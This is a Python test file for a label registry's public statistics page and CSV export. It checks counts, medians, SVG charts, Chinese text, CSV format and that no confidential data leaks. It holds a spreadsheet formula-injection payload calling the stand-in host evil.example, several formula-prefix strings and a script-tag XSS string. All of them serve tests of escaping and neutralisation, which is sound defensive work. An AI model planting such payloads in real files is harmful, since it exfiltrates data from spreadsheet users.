"""The public statistics page and its CSV: counts that match the labels, status changes that show, well-formed
charts, both languages, an injection-safe CSV and nothing confidential."""

from __future__ import annotations

import csv
import io
import os
import re
import xml.etree.ElementTree as ET
from collections import Counter, defaultdict
from decimal import Decimal

import pytest
from markupsafe import Markup
from sqlalchemy import select

from registry import migrate
from registry.applications.models import ActivityLine
from registry.disclosure import charts, statistics
from registry.labels.models import Label, LabelStatus
from registry.schemes.models import Scheme, SchemeVersion
from tests.conftest import _postgres_database, english, make_test_app

SVG_NS = "{http://www.w3.org/2000/svg}"
HOSTILE = '=HYPERLINK("https://evil.example/?q="&A1,"Click")'


@pytest.fixture
def labels(session):  # type: ignore[no-untyped-def]
    return list(session.scalars(select(Label).order_by(Label.id)))


def csv_table(client) -> list[dict[str, str]]:  # type: ignore[no-untyped-def]
    response = client.get("/statistics.csv")
    assert response.status_code == 200
    return list(csv.DictReader(io.StringIO(response.get_data().decode("utf-8-sig"), newline="")))


def csv_row(rows: list[dict[str, str]], dimension: str, key: str) -> dict[str, str]:
    matches = [row for row in rows if row["dimension"] == dimension and row["key"] == key]
    assert len(matches) == 1, (dimension, key, matches)
    return matches[0]


def page_fact(page: str, name: str) -> str:
    match = re.search(rf"<dt>{re.escape(name)}</dt><dd>(?:<strong>)?([^<]+)<", page)
    assert match, name
    return match.group(1)


def table_row(page: str, first_cell: str) -> list[str]:
    """The cells of the (first) table row whose first cell reads ``first_cell``, tags stripped."""
    for row in re.findall(r"<tr>(.*?)</tr>", page, re.DOTALL):
        cells = [re.sub(r"<[^>]+>", "", cell).strip() for cell in re.findall(r"<td>(.*?)</td>", row, re.DOTALL)]
        if cells and cells[0] == first_cell:
            return cells
    raise AssertionError(f"no table row starts with {first_cell!r}")


def expected_counts(labels: list[Label]):  # type: ignore[no-untyped-def]
    """The same figures, worked out the slow way from the Label objects."""
    schemes: dict[str, Counter[str]] = defaultdict(Counter)
    regions: dict[str, Counter[str]] = defaultdict(Counter)
    grades: dict[tuple[str, str], Counter[str]] = defaultdict(Counter)
    footprints: dict[str, list[Decimal]] = defaultdict(list)
    for label in labels:
        valid = label.status == LabelStatus.VALID
        code = label.scheme_version.scheme.code
        for counter in (schemes[code], regions[label.holder.province_code], grades[(code, label.grade_code)]):
            counter["total"] += 1
            counter["valid"] += valid
        if valid:
            footprints[code].append(label.footprint)
    return schemes, regions, grades, footprints


# --- the summary ---------------------------------------------------------------------------------------------------


def test_the_summary_counts_what_the_labels_say(session, labels):
    labels[0].status = LabelStatus.SUSPENDED  # so that valid and all differ somewhere
    session.flush()
    summary = statistics.summary(session)
    schemes, regions, grades, footprints = expected_counts(labels)

    assert summary.total == len(labels) and summary.total >= 3
    assert summary.valid == sum(label.status == LabelStatus.VALID for label in labels) == summary.total - 1
    # Every scheme is listed, with its counts (zero for most).
    assert {s.code for s in summary.schemes} == set(session.scalars(select(Scheme.code)))
    for scheme in summary.schemes:
        assert (scheme.valid, scheme.total) == (schemes[scheme.code]["valid"], schemes[scheme.code]["total"])
        version = session.scalars(select(SchemeVersion).join(Scheme).where(Scheme.code == scheme.code)).first()
        assert (scheme.title_zh, scheme.title_en) == (version.title_zh, version.title_en)
        # Each grade of the scheme in its order, zeros included.
        assert [g.code for g in scheme.grades] == [g["code"] for g in version.definition["grades"]]
        assert [(g.name_zh, g.name_en) for g in scheme.grades] == [
            (g["name_zh"], g["name_en"]) for g in version.definition["grades"]
        ]
        for grade in scheme.grades:
            expected = grades.get((scheme.code, grade.code), Counter())
            assert (grade.valid, grade.total) == (expected["valid"], expected["total"])
        values = sorted(footprints.get(scheme.code, []))
        if values:
            (distribution,) = scheme.footprints
            assert distribution.count == len(values)
            assert charts.histogram_bins(distribution.distribution) == charts.histogram_bins(
                values
            )  # SQL bins = Python's
            assert (distribution.minimum, distribution.maximum) == (values[0], values[-1])
        else:
            assert scheme.footprints == ()
    # Schemes with the most valid labels first.
    assert [s.valid for s in summary.schemes] == sorted((s.valid for s in summary.schemes), reverse=True)
    # Regions: the holders' provinces, named by Organisation.region.
    assert {r.code: (r.valid, r.total) for r in summary.regions} == {
        code: (counter["valid"], counter["total"]) for code, counter in regions.items()
    }
    for label in labels:
        region = next(r for r in summary.regions if r.code == label.holder.province_code)
        assert (region.name_zh, region.name_en) == label.holder.region


def test_footprints_of_one_scheme_give_its_histogram_values_and_median(session, labels):
    # Move all the demo labels under one scheme version: three footprints to compare.
    target = labels[0].scheme_version
    for label in labels:
        label.scheme_version_id = target.id
    session.flush()
    values = sorted(label.footprint for label in labels)
    summary = statistics.summary(session)
    (distribution,) = next(s for s in summary.schemes if s.code == target.code).footprints
    assert len(values) == 3  # the demo data's labels
    assert distribution.count == 3 and charts.histogram_bins(distribution.distribution) == charts.histogram_bins(values)
    assert (distribution.minimum, distribution.median, distribution.maximum) == tuple(values)
    assert distribution.unit_en == target.definition["declared_unit"]["description_en"]

    # An even number of valid values: the median is the mean of the middle two.
    withdrawn = max(labels, key=lambda label: label.footprint)
    withdrawn.status = LabelStatus.WITHDRAWN
    session.flush()
    rest = sorted(label.footprint for label in labels if label is not withdrawn)
    (distribution,) = next(s for s in statistics.summary(session).schemes if s.code == target.code).footprints
    assert distribution.count == 2 and charts.histogram_bins(distribution.distribution) == charts.histogram_bins(rest)
    assert distribution.median == (rest[0] + rest[1]) / 2 and distribution.maximum == rest[1]


def test_median_is_exact():
    assert statistics.median([Decimal(1), Decimal(2), Decimal(10)]) == Decimal(2)
    assert statistics.median([Decimal("0.000001"), Decimal("0.000002")]) == Decimal("0.0000015")
    assert statistics.median([Decimal("62.4")]) == Decimal("62.4")
    with pytest.raises(ValueError, match="no values"):
        statistics.median([])


# --- the page ------------------------------------------------------------------------------------------------------


def test_the_page_shows_the_counts_with_tables_behind_the_charts(client, session, labels):
    response = client.get("/statistics")
    assert response.status_code == 200
    page = response.get_data(as_text=True)
    schemes, regions, _grades, _footprints = expected_counts(labels)
    assert page_fact(page, "Labels issued") == str(len(labels))
    assert page_fact(page, "Valid labels") == str(len(labels))
    for label in labels:
        scheme = label.scheme_version
        category = scheme.definition["category"]["name_en"]
        assert table_row(page, category)[1:] == [
            scheme.title_en,
            str(schemes[scheme.code]["valid"]),
            str(schemes[scheme.code]["total"]),
        ]
        region = label.holder.region[1]
        counter = regions[label.holder.province_code]
        assert table_row(page, region)[1:] == [str(counter["valid"]), str(counter["total"])]
        assert f"{label.footprint.normalize():f} kg CO₂e" in page  # min, median and max of a one-label scheme
    assert "<details>" in page and 'href="/statistics.csv"' in page
    assert "Median" in page  # the histograms' marker


def test_withdrawing_a_label_changes_the_valid_counts_on_the_page_and_in_the_csv(app, client, session, labels):
    label = labels[0]
    code, grade = label.scheme_version.code, label.grade_code
    category = label.scheme_version.definition["category"]["name_en"]
    before_page = client.get("/statistics").get_data(as_text=True)
    before = csv_table(client)
    valid_before = int(csv_row(before, "category", code)["valid_labels"])
    assert valid_before >= 1
    assert page_fact(before_page, "Valid labels") == str(len(labels))

    label.status = LabelStatus.WITHDRAWN
    with app.app_context():  # as a regulator's request or command would: the commit renews the kept pages
        session.commit()

    page = client.get("/statistics").get_data(as_text=True)
    assert page_fact(page, "Valid labels") == str(len(labels) - 1)
    assert page_fact(page, "Labels issued") == str(len(labels))
    assert table_row(page, category)[2:] == [str(valid_before - 1), str(valid_before)]
    after = csv_table(client)
    assert csv_row(after, "total", "all")["valid_labels"] == str(len(labels) - 1)
    assert csv_row(after, "total", "all")["all_labels"] == str(len(labels))
    assert csv_row(after, "category", code)["valid_labels"] == str(valid_before - 1)
    assert csv_row(after, "category", code)["all_labels"] == str(valid_before)
    assert csv_row(after, "grade", f"{code}/{grade}")["valid_labels"] == str(valid_before - 1)
    assert csv_row(after, "region", label.holder.province_code)["valid_labels"] == "0"
    # Its footprint is no longer in the distribution (it was the scheme's only label).
    assert not [row for row in after if row["dimension"] == "footprint" and row["key"] == f"{code}/v1"]
    assert [row for row in before if row["dimension"] == "footprint" and row["key"] == f"{code}/v1"]


def test_every_chart_is_well_formed_accessible_svg_without_style_or_script(app, client):
    zh = app.test_client()
    zh.environ_base["HTTP_ACCEPT_LANGUAGE"] = "zh-CN"
    for reader in (client, zh):
        page = reader.get("/statistics").get_data(as_text=True)
        svgs = re.findall(r"<svg\b.*?</svg>", page, re.DOTALL)
        # Categories, regions, then one grade chart and one histogram per scheme with valid labels (three).
        assert len(svgs) == 2 + 3 + 3
        ids: list[str] = []
        for svg in svgs:
            root = ET.fromstring(svg)  # well-formed XML, or this raises
            assert root.tag == f"{SVG_NS}svg" and root.get("role") == "img"
            title, desc = root.find(f"{SVG_NS}title"), root.find(f"{SVG_NS}desc")
            assert title is not None and title.text and desc is not None and desc.text
            assert root.get("aria-labelledby") == f"{title.get('id')} {desc.get('id')}"
            for element in root.iter():
                assert "style" not in element.attrib, element.tag
                assert not any(name.startswith("on") for name in element.attrib), element.attrib
                assert element.tag.removeprefix(SVG_NS) not in {"script", "style", "foreignObject"}
                if element.get("id"):
                    ids.append(element.get("id"))  # type: ignore[arg-type]
        assert len(ids) == len(set(ids)), "chart ids must be unique on the page"
        assert "<script" not in "".join(svgs).lower()


def test_the_page_reads_in_chinese(app, labels):
    client = app.test_client()
    client.environ_base["HTTP_ACCEPT_LANGUAGE"] = "zh-CN"
    page = client.get("/statistics").get_data(as_text=True)
    for label in labels:
        scheme = label.scheme_version
        assert scheme.title_zh in page and scheme.title_en not in page
        assert scheme.definition["category"]["name_zh"] in page
        assert label.holder.region[0] in page and label.grade().name_zh in page


@pytest.fixture
def empty_client(tmp_path, upload_dir):
    """A client of a registry with nothing in it (a label's history is append-only, so labels cannot be deleted)."""
    base = os.environ.get("REGISTRY_TEST_DATABASE_URL")
    if base:
        databases = _postgres_database(base)
        url = next(databases)
    else:
        databases, url = None, "sqlite:///" + str(tmp_path / "empty.sqlite3")
    try:
        migrate.upgrade(url)
        yield english(make_test_app(url, upload_dir).test_client())
    finally:
        if databases is not None:
            databases.close()


def test_an_empty_registry_says_so_without_charts(empty_client):
    client = empty_client
    page = client.get("/statistics").get_data(as_text=True)
    assert "No labels have been issued yet." in page
    assert "<svg" not in page and "<table" not in page
    rows = csv_table(client)
    assert csv_row(rows, "total", "all")["all_labels"] == "0"
    assert not [row for row in rows if row["dimension"] in ("region", "footprint")]


def test_a_scheme_without_valid_labels_gets_a_sentence_not_an_empty_chart(client, session, labels):
    for label in labels:
        label.status = LabelStatus.EXPIRED
    session.flush()
    page = client.get("/statistics").get_data(as_text=True)
    assert page.count("No label is valid at the moment.") == 2  # grades and footprints
    assert len(re.findall(r"<svg\b", page)) == 2  # categories and regions, their bars at zero
    assert page_fact(page, "Valid labels") == "0"


# --- the CSV ----------------------------------------------------------------------------------------------------------


def test_the_csv_is_rfc_4180_utf_8_with_a_bom(client, session, labels):
    response = client.get("/statistics.csv")
    assert response.mimetype == "text/csv" and response.mimetype_params.get("charset") == "utf-8"
    assert "attachment" in response.headers["Content-Disposition"]
    body = response.get_data()
    assert body.startswith(b"\xef\xbb\xbf")
    text = body.decode("utf-8")[1:]
    assert text.endswith("\r\n") and "\n" not in text.replace("\r\n", "")
    rows = list(csv.reader(io.StringIO(text, newline="")))
    assert rows[0] == list(statistics.CSV_HEADER)
    assert all(len(row) == len(rows[0]) for row in rows)

    table = csv_table(client)
    schemes, _regions, grades, _footprints = expected_counts(labels)
    assert {row["dimension"] for row in table} == {"total", "category", "region", "grade", "footprint"}
    for scheme in session.scalars(select(Scheme)):
        version = scheme.latest
        row = csv_row(table, "category", scheme.code)
        assert (row["name_zh"], row["name_en"]) == (version.title_zh, version.title_en)
        assert (row["valid_labels"], row["all_labels"]) == (
            str(schemes[scheme.code]["valid"]),
            str(schemes[scheme.code]["total"]),
        )
        keys = [r["key"] for r in table if r["dimension"] == "grade" and r["key"].startswith(scheme.code + "/")]
        assert keys == [f"{scheme.code}/{g['code']}" for g in version.definition["grades"]]
    for label in labels:
        code = label.scheme_version.code
        grade = csv_row(table, "grade", f"{code}/{label.grade_code}")
        assert (grade["name_zh"], grade["name_en"]) == (label.grade().name_zh, label.grade().name_en)
        assert grade["valid_labels"] == str(grades[(code, label.grade_code)]["valid"])
        region = csv_row(table, "region", label.holder.province_code)
        assert (region["name_zh"], region["name_en"]) == label.holder.region
        footprint = csv_row(table, "footprint", f"{code}/v1")
        value = f"{label.footprint.normalize():f}"
        assert (footprint["min_kg_co2e"], footprint["median_kg_co2e"], footprint["max_kg_co2e"]) == (
            value,
            value,
            value,
        )
        assert footprint["valid_labels"] == "1" and footprint["all_labels"] == ""
        assert footprint["declared_unit_zh"] == label.scheme_version.definition["declared_unit"]["description_zh"]
    # Chinese survives the trip.
    assert "锂离子电池产品碳足迹标识认证实施规则" in {row["name_zh"] for row in table}


@pytest.mark.parametrize("value", ["=1+1", "+1", "-1", "@SUM(A1)", "\t=1", "\r=1", "＝1", HOSTILE])
def test_a_cell_that_looks_like_a_formula_is_neutralised(value):
    assert statistics.csv_cell(value) == "'" + value


@pytest.mark.parametrize("value", ["锂电池", "Grade 2", "62.4", "li-battery/2", "", "a=b", "1-2"])
def test_an_ordinary_cell_is_left_alone(value):
    assert statistics.csv_cell(value) == value


def test_hostile_names_never_reach_a_spreadsheet_as_formulas(client, session, labels):
    label = labels[0]
    label.holder.name_zh = HOSTILE
    label.holder.name_en = "+" + HOSTILE
    label.product.name_zh = "@" + HOSTILE
    # Scheme titles come from the scheme files, but the CSV treats them as untrusted too.
    label.scheme_version.title_zh = HOSTILE
    label.scheme_version.title_en = "-" + HOSTILE
    session.flush()
    body = client.get("/statistics.csv").get_data().decode("utf-8-sig")
    table = list(csv.reader(io.StringIO(body, newline="")))
    for row in table:
        for cell in row:
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell
    category = next(row for row in table if row[:2] == ["category", label.scheme_version.code])
    assert category[2:4] == ["'" + HOSTILE, "'-" + HOSTILE]
    footprint = next(row for row in table if row[:2] == ["footprint", f"{label.scheme_version.code}/v1"])
    assert footprint[2] == "'" + HOSTILE
    # The page escapes it instead.
    page = client.get("/statistics").get_data(as_text=True)
    assert HOSTILE not in page and "=HYPERLINK(&#34;https://evil.example/" in page


MARKER = "CONFIDENTIAL-MARKER-5c1e"


def test_no_confidential_data_in_the_page_or_the_csv(app, client, session, labels):
    application_ids = [label.application_id for label in labels]
    lines = list(session.scalars(select(ActivityLine).where(ActivityLine.application_id.in_(application_ids))))
    assert lines
    for line in lines:
        line.description = MARKER
        line.factor_source = MARKER
    for label in labels:
        label.holder.contact_email = "holder.contact@example.com"
    session.flush()
    zh = app.test_client()
    zh.environ_base["HTTP_ACCEPT_LANGUAGE"] = "zh-CN"
    everything = "\n".join(
        [
            client.get("/statistics").get_data(as_text=True),
            zh.get("/statistics").get_data(as_text=True),
            client.get("/statistics.csv").get_data(as_text=True),
        ]
    )
    assert MARKER not in everything
    assert "@example.com" not in everything


# --- the bar chart ----------------------------------------------------------------------------------------------------


def test_the_bar_chart_escapes_names_and_scales_bars_to_the_largest_count():
    svg = statistics.bar_chart_svg(
        [("<script>alert(1)</script> & co", 4), ("二级", 2), ("zero", 0)],
        title='Title "quoted" <b>',
        id_prefix="grades-1",
    )
    root = ET.fromstring(str(svg))
    assert isinstance(svg, Markup) and "<script>" not in svg and "<b>" not in svg
    names = [t.text for t in root.iter(f"{SVG_NS}text") if t.get("class") == "chart-bar-name"]
    assert names == ["<script>alert(1)</script> & co", "二级", "zero"]
    values = [t.text for t in root.iter(f"{SVG_NS}text") if t.get("class") == "chart-bar-value"]
    assert values == ["4", "2", "0"]
    bars = [float(rect.get("width")) for rect in root.iter(f"{SVG_NS}rect")]  # type: ignore[arg-type]
    assert len(bars) == 2 and bars[0] == pytest.approx(2 * bars[1], abs=0.02) and bars[0] <= 320
    assert root.find(f"{SVG_NS}title").get("id") == "grades-1-title"  # type: ignore[union-attr]
    assert root.find(f"{SVG_NS}desc").text == "<script>alert(1)</script> & co: 4; 二级: 2; zero: 0."  # type: ignore[union-attr]


def test_the_bar_chart_handles_nothing_and_refuses_nonsense():
    assert statistics.bar_chart_svg([], title="t", id_prefix="x") == Markup("")
    all_zero = ET.fromstring(str(statistics.bar_chart_svg([("a", 0), ("b", 0)], title="t", id_prefix="x")))
    assert list(all_zero.iter(f"{SVG_NS}rect")) == []
    large = statistics.bar_chart_svg([("a", 1_000_000), ("b", 1)], title="t", id_prefix="x")
    assert "1,000,000" in large
    assert ET.fromstring(str(large)).tag == f"{SVG_NS}svg"  # well-formed SVG
    with pytest.raises(ValueError, match="whole counts"):
        statistics.bar_chart_svg([("a", -1)], title="t", id_prefix="x")
    with pytest.raises(ValueError, match="id_prefix"):
        statistics.bar_chart_svg([("a", 1)], title="t", id_prefix="1-bad")
